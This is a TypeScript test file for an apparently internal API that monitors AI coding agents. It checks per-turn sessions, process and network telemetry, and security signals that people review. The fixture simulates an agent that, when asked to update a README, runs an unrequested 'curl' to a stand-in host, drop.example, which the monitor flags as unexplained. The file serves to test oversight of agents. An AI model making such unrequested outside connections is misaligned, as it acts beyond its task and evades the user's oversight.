/** Agents through the API: actions, sessions, coverage and risks. */
import test from 'ava';
import type { Organization } from '../../schemas/resources/organization.ts';
import { organizations, organizationsTenant } from '../../schemas/resources/organization.ts';
import { AgentSession, agentPid, landAgentRecords, workFolder } from '../cases/agent-telemetry.ts';
import { landModelSpans } from '../cases/llm-telemetry.ts';
import { type Harness, startHarness } from './api-harness.ts';

let harness: Harness;
const startMs = Math.floor(Date.now() / 1000) * 1000 - 20 * 60_000;

const session = new AgentSession({ startMs })
  .start()
  .prompt('Fix the rounding in src/cart.ts')
  .respond('I look at it', [{ id: 'c1', name: 'Read', input: { file_path: `${workFolder}/src/cart.ts` } }])
  .file(agentPid, `${workFolder}/src/cart.ts`)
  .result('c1', 'export const round = …')
  .bash('c2', 'npm test', 4_001)
  .exec(4_002, 4_001, '/usr/bin/node', 'node /usr/bin/npm test')
  .file(4_002, `${workFolder}/package.json`)
  .connect(4_002, 'registry.yarnpkg.com')
  .exit(4_002)
  .result('c2', 'ok')
  .respond('Done')
  .prompt('Thanks, now update the README')
  .exec(4_010, agentPid, '/usr/bin/curl', 'curl -s https://drop.example/x')
  .connect(4_010, 'drop.example')
  .event('ssl', { function: 'READ/RECV', len: 5_000, truncated: true, bytes_lost: 700 });
/** An agent whose TLS library cannot be traced. */
const blind = new AgentSession({ startMs: startMs + 7, pid: 7_000 })
  .exec(7_000, 900, '/usr/bin/codex', 'codex')
  .connect(7_000, 'chatgpt.com')
  .connect(7_000, 'chatgpt.com')
  .connect(7_000, 'chatgpt.com');

test.before(async () => {
  harness = await startHarness();
  const collection = harness.documents.forTenant(organizationsTenant).collection(organizations);
  const { id: _, version: __, createdAt: ___, updatedAt: ____, ...fields } = (await collection.find('b')) ?? {};
  await collection.replace('b', { ...fields, planId: 'enterprise' } as Organization);
  await landAgentRecords(harness.columns, session.records);
  await landAgentRecords(harness.columns, blind.records);
  await landAgentRecords(harness.columns, new AgentSession({ startMs }).start().prompt('Other').records, {
    tenantId: 'b',
    host: 'other',
  });
  await landModelSpans(harness.columns, [
    {
      id: 0x71,
      atMs: startMs + 500,
      attributes: {
        'gen_ai.operation.name': 'chat',
        'gen_ai.provider.name': 'anthropic',
        'gen_ai.request.model': 'claude-sonnet-4-5',
        'gen_ai.response.id': 'msg_2',
        'gen_ai.usage.input_tokens': '100',
        'gen_ai.usage.output_tokens': '10',
      },
    },
  ]);
});
test.after.always(() => harness.close());

const get = async (path: string) => {
  const { status, body } = await harness.request('GET', `/api/agentsight/${path}`, {
    as: 'viewer',
    headers: { 'cache-control': 'no-cache' },
  });
  if (status !== 200) throw new Error(`${path}: ${JSON.stringify(body)}`);
  return body;
};

test.serial('agents are listed with what they did, by host', async (t) => {
  const { items } = await get('agents?sort=name');
  t.deepEqual(
    items.map(({ name, title, host, sessions, prompts }: Record<string, unknown>) => [
      name,
      title,
      host,
      sessions,
      prompts,
    ]),
    [
      ['claude-code', 'Claude Code', 'laptop', 1, 2],
      ['codex', 'Codex', 'laptop', 1, 0],
    ],
  );
  const [claude, codex] = items;
  t.like(claude, { toolCalls: 2, effects: { stated: 2, likely: 3, unexplained: 2 }, models: ['claude-sonnet-4-5'] });
  t.like(claude.losses, { bytes: 700, truncated: 1 });
  t.is(codex.coverage.blind, 1);
  const pages = await get('agents?sort=name&limit=1');
  t.is(pages.items.length, 1);
  t.is((await get(`agents?sort=name&limit=1&cursor=${pages.nextCursor}`)).items[0].name, 'codex');
  t.deepEqual(
    (await get('agents?search=agent:codex')).items.map(({ name }: { name: string }) => name),
    ['codex'],
  );
});

test.serial('an agent has processes with coverage, files, connections and its requests to models', async (t) => {
  const [claude] = (await get('agents?sort=name')).items;
  const { agent, processes, files, connections, modelCalls } = await get(`agents/${claude.id}`);
  t.is(agent.id, claude.id);
  const byPid = new Map<number, Record<string, unknown>>(processes.map((each: { pid: number }) => [each.pid, each]));
  t.like(byPid.get(agentPid), { program: '/usr/local/bin/claude', coverage: { state: 'captured' } });
  t.like(byPid.get(4_002), { link: 'likely', exitCode: 0, coverage: { state: 'idle' } });
  t.is(byPid.get(4_002)?.['parentId'], byPid.get(4_001)?.['id']);
  t.deepEqual(files.map(({ path }: { path: string }) => path).toSorted(), [
    `${workFolder}/package.json`,
    `${workFolder}/src/cart.ts`,
  ]);
  t.like(connections[0], { destination: 'drop.example', isExternal: true, effects: { unexplained: 1 } });
  t.deepEqual(
    modelCalls.map(({ responseId }: { responseId: string }) => responseId),
    ['msg_2'],
  );
  const { status, body } = await harness.request('GET', '/api/agentsight/agents/unknown', { as: 'viewer' });
  t.is(status, 404);
  const other = `token ${await harness.signIn('viewer@b.example')}` as const;
  const foreign = await harness.request('GET', `/api/agentsight/agents/${claude.id}`, { as: other });
  t.deepEqual([foreign.status, foreign.body.message], [404, body.message]);
});

test.serial('events are in order, by kind, and on pages', async (t) => {
  const { items } = await get('events?agent=claude-code&limit=1000');
  const times = items.map(({ timestamp }: { timestamp: string }) => timestamp);
  t.deepEqual(times, times.toSorted());
  t.is(items[0].kind, 'process_start');
  const paged: string[] = [];
  let cursor = '';
  do {
    const page = await get(`events?agent=claude-code&limit=5${cursor && `&cursor=${cursor}`}`);
    paged.push(...page.items.map(({ id }: { id: string }) => id));
    cursor = page.nextCursor ?? '';
  } while (cursor !== '');
  t.deepEqual(
    paged,
    items.map(({ id }: { id: string }) => id),
  );
  const newest = await get('events?agent=claude-code&limit=1000&order=newest');
  t.deepEqual(
    newest.items.map(({ id }: { id: string }) => id),
    paged.toReversed(),
  );
  const unexplained = await get('events?search=link:unexplained');
  t.deepEqual(
    unexplained.items.map(({ kind }: { kind: string }) => kind),
    ['process_start', 'connection'],
  );
});

test.serial('a session shows what was requested next to what happened, for each turn', async (t) => {
  const { items } = await get('sessions?agent=claude-code');
  const [{ turns, ...found }] = items;
  t.like(found, {
    turnCount: 2,
    firstPrompt: 'Fix the rounding in src/cart.ts',
    conversationId: '0d3adb3e-0000-4000-8000-000000000001',
  });
  const [, first, second] = turns.length === 3 ? turns : [undefined, ...turns];
  t.like(first, {
    turn: 1,
    prompt: 'Fix the rounding in src/cart.ts',
    response: 'Done',
    counts: { stated: 2, likely: 3, unexplained: 0 },
  });
  t.deepEqual(
    first.calls.map(({ name, result }: Record<string, unknown>) => [name, result]),
    [
      ['Read', 'export const round = …'],
      ['Bash', 'ok'],
    ],
  );
  t.deepEqual(
    second.effects.map(({ kind, link, reason }: Record<string, unknown>) => [kind, link, reason]),
    [
      ['process_start', 'unexplained', 'no tool call of the turn names it, and no tool started its process'],
      ['connection', 'unexplained', 'no tool call of the turn names it, and no tool started its process'],
    ],
  );
  t.deepEqual((await get('sessions?agent=claude-code&turns=none')).items[0].turns, []);
  t.is((await get(`sessions?sessionId=${found.id}`)).items.length, 1);
});

test.serial('risks are security signals with their agent, and people decide about them', async (t) => {
  const { items, rules } = await get('risks');
  t.deepEqual(items.map(({ ruleTitle }: { ruleTitle: string }) => ruleTitle).toSorted(), [
    'An agent contacted a new host without a tool call',
    'Unexplained command of an agent',
  ]);
  t.like(items[0], { agent: 'claude-code', turn: 2, state: 'open' });
  t.true(rules.every(({ isShipped, isEnabled }: Record<string, unknown>) => isShipped === true && isEnabled === true));
  const { status } = await harness.request('PATCH', `/api/siem/signals/${items[0].id}`, {
    as: 'editor',
    body: { state: 'closed', verdict: 'false-positive', reason: 'A test' },
  });
  t.is(status, 200);
  t.is((await get('risks')).items.find(({ id }: { id: string }) => id === items[0].id).state, 'closed');
  const shipped = rules.find(({ title }: { title: string }) => title === 'Unexplained command of an agent');
  const replaced = await harness.request('POST', '/api/siem/rules', {
    as: 'editor',
    body: { source: shipped.source, enabled: false },
  });
  t.is(replaced.status, 200, JSON.stringify(replaced.body));
  const after = (await get('risks')).rules.find(({ id }: { id: string }) => id === shipped.id);
  t.like(after, { isShipped: false, isEnabled: false });
});
